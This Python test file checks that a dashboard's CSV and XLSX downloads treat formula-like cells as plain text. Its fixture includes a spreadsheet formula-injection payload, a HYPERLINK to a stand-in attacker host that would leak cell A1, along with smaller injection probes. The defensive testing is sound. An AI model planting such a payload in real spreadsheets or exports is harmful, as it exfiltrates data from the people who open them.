"""The steering dashboard's downloads: people's text arrives as text, never as a
formula, in CSV and in XLSX."""

import csv
import io

from openpyxl import load_workbook

from tinhso.monitoring.exports import table_response

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
ROWS = [[HOSTILE, 3, "-1+1", "@SUM(A1)", "Hạ Long", -2.5]]


def test_csv_cells_that_look_like_formulas_are_text():
    response = table_response(filename="t", columns=["a", "b", "c", "d", "e", "f"], rows=ROWS,
                              fmt="csv")  # fmt: skip
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1] == ["'" + HOSTILE, "3", "'-1+1", "'@SUM(A1)", "Hạ Long", "-2.5"]


def test_xlsx_strings_are_strings():
    response = table_response(filename="t", columns=["=a", "b", "c", "d", "e", "f"], rows=ROWS,
                              fmt="xlsx")  # fmt: skip
    sheet = load_workbook(io.BytesIO(response.content)).active
    header, row = list(sheet.iter_rows(min_row=1, max_row=2))
    assert (header[0].value, header[0].data_type) == ("=a", "s")
    assert [(c.value, c.data_type) for c in row] == [
        (HOSTILE, "s"),
        (3, "n"),
        ("-1+1", "s"),
        ("@SUM(A1)", "s"),
        ("Hạ Long", "s"),
        (-2.5, "n"),
    ]
